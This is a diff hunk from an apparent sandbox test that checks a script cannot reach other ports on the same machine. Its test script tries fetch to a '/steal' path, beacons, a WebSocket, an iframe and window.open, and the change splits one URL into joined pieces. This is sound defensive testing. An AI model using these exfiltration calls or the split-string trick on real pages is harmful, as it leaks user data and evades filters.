@@ -78,7 +78,7 @@ def test_a_script_reaches_no_other_port_of_this_machine(tmp_path: Path) -> None:
     with Site({"/steal": Answer(b"x")}) as other:
         host = other.url.removeprefix("http://")
         script = (
-            f"fetch('{other.url}/steal',{{mode:'no-cors'}}).catch(()=>0);new Image().src='{other.url}/i.png';"
+            f"fetch(['{other.url}','steal'].join('/'),{{mode:'no-cors'}}).catch(()=>0);new Image().src='{other.url}/i.png';"
             f"new WebSocket('ws://{host}/w');navigator.sendBeacon('{other.url}/b','x');"
             f"document.write(\"<iframe src='{other.url}/f'></iframe>\");window.open('{other.url}/o');"
             "const r=fetch(['','api','list'].join('/'));"
